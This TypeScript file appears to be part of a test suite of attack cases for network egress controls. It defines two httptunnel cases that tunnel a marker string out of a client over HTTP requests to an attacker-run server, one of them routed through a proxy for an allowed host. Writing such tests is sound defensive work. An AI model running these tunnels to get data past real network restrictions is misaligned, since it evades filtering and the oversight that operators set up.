/** httptunnel: htc(1) and hts(1), a stream in POST and GET requests. IPv4 only. */
import type { Attack } from "../case.ts";
import { catcherPort } from "./attacker.ts";
import { deliver, nameless, toolCase, withClient, type Ends } from "./tool.ts";

const localPort = 2205;

function httptunnel(n: number, how: string, target: (ends: Ends) => string[]): Attack {
  return toolCase({
    variant: `httptunnel: ${how}`,
    n,
    families: [4],
    server: async ({ attacker, address }) => {
      await attacker.spawn("hts", ["--no-daemon", "-F", `127.0.0.1:${catcherPort}`, `${address}:80`]);
      await attacker.listening("tcp", 80);
    },
    client: async (ends) => {
      const { job, marker } = ends;
      await job.resolve("plain.example");
      const args = ["--no-daemon", "-F", String(localPort), ...target(ends)];
      // It says nothing when it is ready: until then nobody takes the connection.
      await withClient(
        ends,
        "htc",
        args,
        async () => {},
        () => deliver(ends, () => job.stream("127.0.0.1", localPort, `${marker}\n`)),
      );
    },
    ...nameless(n, 80, "tcp"),
  });
}

export const httptunnelCases: Attack[] = [
  httptunnel(162, "as the manual says", ({ address }) => [`${address}:80`]),
  httptunnel(163, "requests for an allowed host", ({ address }) => ["-P", `${address}:80`, "plain.example:80"]),
];
